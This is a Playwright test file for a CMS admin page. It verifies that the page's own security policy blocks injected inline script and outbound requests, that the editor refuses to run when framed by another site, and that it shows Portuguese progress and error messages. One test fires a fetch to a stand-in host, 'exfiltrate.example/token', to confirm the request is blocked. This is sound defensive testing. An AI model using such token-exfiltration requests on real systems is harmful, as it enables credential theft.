// /admin on a host that sends no headers: its meta policy is in force; framed by another site it does not start and says why;
// on its own it starts. While Decap downloads (editor/start.ts) the page says in Portuguese how far it has got, or why it failed.
import fs from "fs"
import http from "http"
import path from "path"
import type { AddressInfo } from "net"
import { expect, test } from "@playwright/test"
import { EDITOR_TEXTS, FRAMED_TEXTS } from "../../editor/texts"
import { PT_PT_OVERRIDES } from "../../src/cms/locale"
import { PUBLISHED_SITE } from "./editor"
import { watchPolicyViolations } from "./siteTest"

const TYPES: Record<string, string> = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript",
  ".css": "text/css",
  ".wasm": "application/wasm",
}

/** A server that sends a file's type and nothing else: no policy, no X-Frame-Options. */
function plainServer(root: string, pages: Record<string, string> = {}): Promise<http.Server> {
  const server = http.createServer((request, response) => {
    const urlPath = decodeURIComponent(new URL(request.url ?? "/", "http://x").pathname)
    if (pages[urlPath]) {
      response.writeHead(200, { "Content-Type": TYPES[".html"] })
      response.end(pages[urlPath])
      return
    }
    const file = path.join(root, urlPath.endsWith("/") ? `${urlPath}index.html` : urlPath)
    if (!file.startsWith(root) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      response.writeHead(404)
      response.end()
      return
    }
    response.writeHead(200, { "Content-Type": TYPES[path.extname(file)] ?? "application/octet-stream" })
    response.end(fs.readFileSync(file))
  })
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)))
}

let site: http.Server
let other: http.Server
let adminUrl: string
test.beforeAll(async () => {
  site = await plainServer(PUBLISHED_SITE)
  // The site as "localhost", the framing page as "127.0.0.1": two origins.
  adminUrl = `http://localhost:${(site.address() as AddressInfo).port}/admin/`
  other = await plainServer(PUBLISHED_SITE, {
    "/": `<!doctype html><html lang="en"><title>Another site</title><iframe title="editor" src="${adminUrl}" width="900" height="600"></iframe>`,
  })
})
test.afterAll(() => {
  site?.close()
  other?.close()
})

test("on a host without headers, /admin's own policy is in force (no inline script, no connection to another host); framed by another origin, it does not start the editor and says why", async ({
  page,
}) => {
  // Decap's bundle is parsed twice: on its own, then in the frame.
  test.setTimeout(120_000)
  const violations: string[] = []
  await watchPolicyViolations(page, (violation) => violations.push(violation))
  const response = await page.goto(adminUrl)
  // The host sends no policy and no X-Frame-Options: only the page itself can refuse.
  expect(response?.headers()["content-security-policy"]).toBeUndefined()
  expect(response?.headers()["x-frame-options"]).toBeUndefined()
  await expect(page.getByRole("button", { name: PT_PT_OVERRIDES.auth.loginWithGitHub })).toBeVisible({ timeout: 30_000 })
  const outcome = await page.evaluate(async () => {
    const script = document.createElement("script")
    script.textContent = "window.__inlineRan = true"
    document.body.append(script)
    const fetched = await fetch("https://exfiltrate.example/token").then(
      () => "sent",
      () => "blocked",
    )
    return { inlineRan: (window as any).__inlineRan === true, fetched }
  })
  expect(outcome).toEqual({ inlineRan: false, fetched: "blocked" })
  await expect.poll(() => violations.join(" | ")).toMatch(/script-src-elem inline.*\| connect-src https:\/\/exfiltrate\.example/)

  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`, { waitUntil: "domcontentloaded" })
  const frame = page.frameLocator("iframe")
  await expect(frame.getByRole("alert")).toHaveText(FRAMED_TEXTS.notice, { timeout: 60_000 })
  await expect(frame.getByRole("link", { name: FRAMED_TEXTS.link })).toHaveAttribute("href", adminUrl)
  // start.ts never loads Decap there: nothing of it runs on the page.
  const editorFrame = page.frames().find((each) => each.url() === adminUrl)!
  expect(await editorFrame.evaluate(() => (window as any).__editorRefused)).toBe(true)
  await editorFrame.waitForFunction(() => document.readyState === "complete")
  expect(await editorFrame.evaluate(() => "CMS" in window)).toBe(false)
  await expect(frame.getByRole("button")).toHaveCount(0)
  await expect(frame.locator("#nc-root")).toHaveCount(0)
  await expect(frame.getByText(PT_PT_OVERRIDES.auth.loginWithGitHub)).toHaveCount(0)
})

const DECAP = "**/admin/assets/decap/**"

test("on a slow connection, the page says how much of the editor has arrived", async ({ page, context }) => {
  const session = await context.newCDPSession(page)
  await session.send("Network.enable")
  await session.send("Network.emulateNetworkConditions", {
    offline: false,
    latency: 400,
    downloadThroughput: 50_000,
    uploadThroughput: 50_000,
  })
  await page.goto(adminUrl)
  await expect(page.getByRole("status")).toHaveText(/^A transferir o editor de conteúdo: [\d ]+ de [\d ]+ KB \(([1-9]\d?) %\)\.$/, {
    timeout: 60_000,
  })
  expect(await page.locator("#editor-status progress").evaluate((bar: HTMLProgressElement) => bar.value)).toBeGreaterThan(0)
})

for (const { failure, answer, alert } of [
  { failure: "the site does not send the editor", answer: { status: 503 }, alert: EDITOR_TEXTS.serverFailed(503) },
  { failure: "the connection fails", answer: "internetdisconnected", alert: EDITOR_TEXTS.networkFailed(0) },
] as const)
  test(`when ${failure}, the page says so and offers to reload`, async ({ page }) => {
    await page.route(DECAP, (route) => (typeof answer === "string" ? route.abort(answer) : route.fulfill({ ...answer, body: "" })))
    await page.goto(adminUrl)
    await expect(page.getByRole("alert")).toHaveText(alert)
    await expect(page.getByRole("button", { name: EDITOR_TEXTS.reload })).toBeVisible()
    await expect(page.getByRole("status")).toHaveCount(0)
  })
